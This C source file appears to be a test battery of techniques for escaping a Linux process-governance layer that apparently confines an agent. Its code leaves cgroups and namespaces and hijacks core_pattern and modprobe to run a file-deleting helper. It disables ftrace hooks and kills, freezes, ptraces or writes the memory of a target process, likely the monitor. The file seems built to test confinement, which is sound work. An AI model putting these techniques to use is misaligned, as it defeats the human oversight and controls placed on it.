// Leaving governance, then deleting what must not be deleted; or reaching into a process that is
// governed by nobody.
#include "evade.h"
#include <linux/io_uring.h>
#include <linux/sched.h>

static void delete(void) { unlink(in("victim")); }

static void move_to(const char *file) {
    char pid[16];
    snprintf(pid, sizeof pid, "%d", getpid());
    int fd = open(file, O_WRONLY);
    NEED(fd);
    NEED(write(fd, pid, strlen(pid)));
}
static void root_cgroup(void) {
    move_to("/sys/fs/cgroup/cgroup.procs");
    delete();
}
static void new_cgroup(void) {
    mkdir("/sys/fs/cgroup/evade", 0755);
    move_to("/sys/fs/cgroup/evade/cgroup.procs");
    delete();
    move_to("/sys/fs/cgroup/cgroup.procs");
    rmdir("/sys/fs/cgroup/evade");
}
static void cloned_into_cgroup(void) {
    struct clone_args arguments = {.flags = CLONE_INTO_CGROUP, .exit_signal = SIGCHLD,
                                   .cgroup = open("/sys/fs/cgroup", O_RDONLY | O_DIRECTORY)};
    pid_t child = syscall(SYS_clone3, &arguments, sizeof arguments);
    NEED(child);
    if (child == 0) {
        delete();
        _exit(0);
    }
    waitpid(child, NULL, 0);
}
static void daemonised(void) {
    if (fork()) return (void)usleep(100000);
    setsid();
    pid_t parent = getpid();
    if (fork()) _exit(0);
    while (getppid() == parent) usleep(1000);
    delete();
    _exit(0);
}
static void unshared(void) {
    NEED(unshare(CLONE_NEWNS | CLONE_NEWUTS | CLONE_NEWIPC | CLONE_NEWPID | CLONE_NEWNET | CLONE_NEWCGROUP));
    in_child(delete);
}
static void unshared_user(void) {
    NEED(unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWUTS | CLONE_NEWPID | CLONE_NEWNET | CLONE_NEWCGROUP));
    in_child(delete);
}
static void into_namespaces(void) {
    static const char *const kinds[] = {"mnt", "uts", "ipc", "net", "cgroup", "pid"};
    for (unsigned n = 0; n < sizeof kinds / sizeof *kinds; n++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/1/ns/%s", kinds[n]);
        int fd = open(path, O_RDONLY);
        NEED(fd);
        NEED(setns(fd, 0));
    }
    in_child(delete);
}
static void siblings(void) {
    // A child of the parent, not of this process.
    struct clone_args arguments = {.flags = CLONE_PARENT};
    pid_t child = syscall(SYS_clone3, &arguments, sizeof arguments);
    NEED(child);
    if (child == 0) {
        delete();
        _exit(0);
    }
    usleep(100000);
}
static void vforked(void) {
    if (vfork() == 0) {
        delete();
        _exit(0);
    }
}
static void polled_ring(void) { ring_polled(IORING_OP_UNLINKAT, AT_FDCWD, in("victim"), 0, 0, 0); }
static void other_user(void) {
    NEED(setresuid(12345, 12345, 12345));
    delete();
}
static void become(void) {
    char *words[] = {"unlink", (char *)in("victim"), NULL};
    execv("/bin/unlink", words);
}
static void executed_by_thread(void) { in_thread(become); }
static void orphaned_group(void) {
    // The leader ends, its thread goes on.
    if (fork()) return (void)usleep(150000);
    char *at = mmap(0, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    NEED(clone((int (*)(void *))(void *)become, at + 65536 - 64,
               CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD, NULL));
    syscall(SYS_exit, 0);
}

// The kernel starts a program for the agent: a child of nobody's.
static void told_to(const char *setting, void (*trigger)(void)) {
    char old[256] = "", line[4400];
    int fd = open(setting, O_RDWR);
    NEED(fd);
    ssize_t size = read(fd, old, sizeof old - 1);
    snprintf(line, sizeof line, "#!/bin/sh\nrm -f %s\n", in("victim"));
    NEED(make_file(scratch("helper"), line));
    NEED(chmod(scratch("helper"), 0755));
    snprintf(line, sizeof line, "%s%s", strstr(setting, "core_pattern") ? "|" : "", scratch("helper"));
    NEED(pwrite(fd, line, strlen(line), 0));
    trigger();
    usleep(300000);
    pwrite(fd, old, size, 0);
}
static void crash(void) {
    if (fork() == 0) abort();
    wait(NULL);
}
static void ask_for_a_module(void) { socket(AF_INET, SOCK_RAW, 253), socket(44, SOCK_RAW, 0), socket(AF_KCM, SOCK_DGRAM, 0); }
static void core_pattern(void) { told_to("/proc/sys/kernel/core_pattern", crash); }
static void modprobe(void) { told_to("/proc/sys/kernel/modprobe", ask_for_a_module); }
static void without_ftrace(void) {
    // Hooks of either kind go by ftrace.
    int fd = open("/proc/sys/kernel/ftrace_enabled", O_RDWR);
    NEED(fd);
    NEED(pwrite(fd, "0", 1, 0));
    delete();
    pwrite(fd, "1", 1, 0);
}

// The target in a cgroup of its own, by which it can be had without a signal.
static void cgroup_of_target(const char *file) {
    char pid[16], path[128];
    mkdir("/sys/fs/cgroup/evade", 0755);
    int fd = open("/sys/fs/cgroup/evade/cgroup.procs", O_WRONLY);
    NEED(fd);
    snprintf(pid, sizeof pid, "%d", target);
    NEED(write(fd, pid, strlen(pid)));
    snprintf(path, sizeof path, "/sys/fs/cgroup/evade/%s", file);
    fd = open(path, O_WRONLY);
    NEED(fd);
    write(fd, "1", 1);
    usleep(50000);
}
static void cgroup_kill(void) { cgroup_of_target("cgroup.kill"); }
static void cgroup_freeze(void) {
    char path[64], state[512] = "";
    cgroup_of_target("cgroup.freeze");
    snprintf(path, sizeof path, "/sys/fs/cgroup/evade/cgroup.events");
    read(open(path, O_RDONLY), state, sizeof state - 1);
    claim(strstr(state, "frozen 1") != NULL);
    write(open("/sys/fs/cgroup/evade/cgroup.freeze", O_WRONLY), "0", 1);
}

static void terminate(void) { kill(target, SIGTERM); }
static void kill_(void) { kill(target, SIGKILL); }
static void stop(void) { kill(target, SIGSTOP); }
static void tgkill_(void) { syscall(SYS_tgkill, target, target, SIGKILL); }
static void tkill_(void) { syscall(SYS_tkill, target, SIGKILL); }
static void queued(void) {
    union sigval value = {0};
    sigqueue(target, SIGTERM, value);
}
static void by_pidfd(void) {
    int fd = syscall(SYS_pidfd_open, target, 0);
    NEED(fd);
    syscall(SYS_pidfd_send_signal, fd, SIGKILL, NULL, 0);
}
static void whole_group(void) { kill(-target, SIGKILL); }
static void by_owner(void) {
    // The kernel sends the signal, for a descriptor that names the target.
    int pair[2];
    NEED(pipe(pair));
    NEED(fcntl(pair[0], F_SETOWN, target));
    NEED(fcntl(pair[0], F_SETSIG, SIGTERM));
    NEED(fcntl(pair[0], F_SETFL, O_ASYNC));
    write(pair[1], "x", 1);
    usleep(50000);
}
static void gate_kill(void) { gate32(37, target, SIGKILL, 0, 0); }

// Where the target keeps a word that it looks at.
static void *word(void) {
    char path[64];
    unsigned long at = 0;
    snprintf(path, sizeof path, "/e/target.%d", target);
    FILE *file = fopen(path, "r");
    if (!file || fscanf(file, "%lx", &at) != 1) exit(3);
    return (void *)at;
}
static void poke(void) {
    NEED(ptrace(PTRACE_ATTACH, target, 0, 0));
    NEED(waitpid(target, NULL, __WALL));
    ptrace(PTRACE_POKEDATA, target, word(), 1L);
    ptrace(PTRACE_DETACH, target, 0, 0);
}
static void seize(void) {
    NEED(ptrace(PTRACE_SEIZE, target, 0, 0));
    NEED(ptrace(PTRACE_INTERRUPT, target, 0, 0));
    NEED(waitpid(target, NULL, __WALL));
    ptrace(PTRACE_POKEDATA, target, word(), 1L);
    ptrace(PTRACE_DETACH, target, 0, 0);
}
static void vm_write(void) {
    long one = 1;
    struct iovec from = {&one, sizeof one}, to = {word(), sizeof one};
    process_vm_writev(target, &from, 1, &to, 1, 0);
}
static void vm_read(void) {
    long value = -1;
    struct iovec to = {&value, sizeof value}, from = {word(), sizeof value};
    claim(process_vm_readv(target, &to, 1, &from, 1, 0) == sizeof value);
}
static void proc_mem(void) {
    char path[64];
    long one = 1;
    snprintf(path, sizeof path, "/proc/%d/mem", target);
    int fd = open(path, O_RDWR);
    NEED(fd);
    pwrite(fd, &one, sizeof one, (off_t)word());
}
static void descriptor(void) {
    int fd = syscall(SYS_pidfd_open, target, 0);
    NEED(fd);
    claim(syscall(SYS_pidfd_getfd, fd, 0, 0) >= 0);
}
static void limits(void) {
    // It opens no further file.
    struct { uint64_t soft, hard; } none = {0, 0};
    claim(syscall(SYS_prlimit64, target, 7 /* RLIMIT_NOFILE */, &none, NULL) == 0);
}

const struct technique leave_techniques[] = {
    {"root_cgroup", root_cgroup, HARMED, 1},
    {"new_cgroup", new_cgroup, HARMED},
    {"cloned_into_a_cgroup", cloned_into_cgroup, HARMED},
    {"daemonised", daemonised, HARMED, 1},
    {"unshared", unshared, HARMED},
    {"unshared_user", unshared_user, HARMED},
    {"into_the_first_namespaces", into_namespaces, HARMED},
    {"parents_child", siblings, HARMED},
    {"vforked", vforked, HARMED},
    {"polled_ring", polled_ring, HARMED},
    {"other_user", other_user, HARMED},
    {"executed_by_a_thread", executed_by_thread, HARMED},
    {"leader_gone", orphaned_group, HARMED},
    {"core_pattern", core_pattern, HARMED},
    {"modprobe", modprobe, HARMED},
    {"without_ftrace", without_ftrace, HARMED},
    {"cgroup_kill", cgroup_kill, TOUCHED},
    {"cgroup_freeze", cgroup_freeze, CLAIMED},
    {"terminate", terminate, TOUCHED, 1},
    {"kill", kill_, TOUCHED},
    {"stop", stop, TOUCHED},
    {"tgkill", tgkill_, TOUCHED},
    {"tkill", tkill_, TOUCHED},
    {"sigqueue", queued, TOUCHED},
    {"pidfd_send_signal", by_pidfd, TOUCHED},
    {"kill_group", whole_group, TOUCHED},
    {"signal_by_descriptor", by_owner, TOUCHED},
    {"gate32_kill", gate_kill, TOUCHED},
    {"ptrace_attach", poke, TOUCHED, 1},
    {"ptrace_seize", seize, TOUCHED},
    {"process_vm_writev", vm_write, TOUCHED},
    {"process_vm_readv", vm_read, CLAIMED},
    {"proc_mem", proc_mem, TOUCHED},
    {"pidfd_getfd", descriptor, CLAIMED},
    {"prlimit", limits, CLAIMED},
    {0},
};
